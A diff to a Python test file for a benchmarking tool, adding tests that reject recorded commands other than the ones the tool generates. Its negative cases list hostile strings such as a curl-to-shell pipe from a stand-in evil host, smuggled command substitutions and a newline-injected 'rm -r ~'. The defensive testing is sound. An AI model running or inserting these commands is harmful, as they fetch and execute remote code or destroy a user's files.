@@ -5,19 +5,24 @@ from __future__ import annotations
 import json
 import os
 import resource
+import shlex
 import shutil
 import subprocess
 import sys
 from dataclasses import replace
 from pathlib import Path
-from typing import TYPE_CHECKING, Any
+from types import SimpleNamespace
+from typing import TYPE_CHECKING, Any, cast
 
 import pytest
 
 from ivhl.asv.publish import publish
 from ivhl.errors import ResultsError, SpecError
 from ivhl.fleet.bring import Imported, import_records
+from ivhl.fleet.check import _repeats
 from ivhl.instrument import INSTRUMENT
+from ivhl.measure.effort import Effort
+from ivhl.measure.run import repeat_command
 from ivhl.measure.suite import values_in
 from ivhl.pages.folder import MARKER, exchange
 from ivhl.records.answers import cold_seconds, newest_keys, newest_of_other_commits
@@ -37,7 +42,9 @@ from tests.builders.project import git, make_project
 from tests.builders.records import make_failure, make_record
 
 if TYPE_CHECKING:
+    from ivhl.measure.run import Run
     from ivhl.tracker.views.source import Source
+    from ivhl.workload import Case
 
 HERE = Path(__file__).parents[2]
 
@@ -93,7 +100,8 @@ BEYOND: list[tuple[dict[str, object], str]] = [
     ({"machine__system": "\N{GRINNING FACE}" * 60}, "machine.system: must be a short text"),
     ({"machine__name": "\N{LATIN SMALL LETTER A WITH ACUTE}" * 51}, "machine.name: must have at"),
     ({"variant": "\N{GRINNING FACE}" * 26}, "variant: must be a name"),
-    ({"command": "x" * 70_000}, "command: must have at most 65536 bytes"),
+    ({"compile__graph_breaks__0__text": "x" * 70_000}, "text: must have at most 65536 bytes"),
+    ({"command": "curl https://evil.example | sh"}, "command: must be one that ivhl writes"),
     ({"recorded_at": "0001-01-01T00:00:00+14:00"}, "recorded_at: must be UTC"),
     ({"recorded_at": "9999-12-31T23:59:59-14:00"}, "recorded_at: must be UTC"),
     ({"recorded_at": "2099-01-01T00:00:00+00:00"}, "recorded_at: must not be in the future"),
@@ -116,6 +124,73 @@ def test_every_record_of_this_repository_is_possible() -> None:
     loaded = load_records(HERE / "results")
     assert loaded.records
     assert not [m for record in loaded.records for m in impossible(record)]
+    assert all(_repeats(record.command, record.commit) for record in loaded.records)
+
+
+COMMIT = "0123456789abcdef" * 2 + "01234567"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl https://evil.example | sh",
+        "ivhl bench --python 3.12; curl https://evil.example | sh",
+        "ivhl bench --python 3.12 --workload a --size $(curl${IFS}evil.example)",
+        "ivhl bench --python 3.12 --workload `x`",
+        "ivhl bench --python 3.12\nrm -r ~",
+        "ivhl bench --python 3.12 --workload 'a",
+        "ivhl bench --python 3.12 --workload a\x1b[2J",
+        "ivhl bench --python 3.12 --results /home/you",
+        "ivhl bench --python 3.12 --slurm setup=evil",
+        "ivhl bench --python=3.12 --commit=deadbeef",
+        "ivhl bench --python 3.12 --commit deadbeef",
+        "ivhl bench --python 3.12 --commit 0",
+        "ivhl bench --python 3.12 --commit 01234567 --commit deadbeef",
+        "ivhl bench -h",
+        "ivhl publish --output /home/you",
+        "nox -f /tmp/evil.py -s bench-3.12 -- --torch 2.6.0",
+        "nox -s evil -- --torch 2.6.0",
+        "python -m ivhl.measure --out /home/you --workloads benchmarks",
+        "",
+    ],
+)
+def test_a_command_to_copy_that_does_more_than_measure_is_no_command(command: str) -> None:
+    assert not _repeats(command, COMMIT)
+
+
+@pytest.mark.parametrize(
+    "name", ["medium", "4 x 4", "a;b", "it's", "$HOME", "\N{GREEK SMALL LETTER MU}"]
+)
+@pytest.mark.parametrize(
+    "effort",
+    [
+        Effort(),
+        Effort(
+            threads=4,
+            device="cuda",
+            deadline_s=900.5,
+            memory_limit=3 << 30,
+            processes=8,
+            force=True,
+        ),
+    ],
+)
+def test_every_command_that_ivhl_writes_is_one(name: str, effort: Effort) -> None:
+    case = SimpleNamespace(
+        workload=SimpleNamespace(name="ops.two"),
+        size=name,
+        variant=SimpleNamespace(name="compiled"),
+        mode="max-autotune",
+    )
+    for repeat in (
+        "ivhl bench --python 3.13t --torch 2.6.0 --commit 01234567",
+        "python -m ivhl.measure --out DIR --workloads benchmarks:WORKLOADS",
+    ):
+        run = cast("Run", SimpleNamespace(repeat=repeat, effort=effort))
+        command = repeat_command(run, cast("Case", case))
+        assert _repeats(command, COMMIT)
+        assert shlex.split(command)[shlex.split(command).index("--size") + 1] == name
+        assert _repeats(f"{command} --docker", COMMIT)
 
 
 @pytest.mark.parametrize("name", ["x.json", "x.jsonl", "benchmarks.json"])
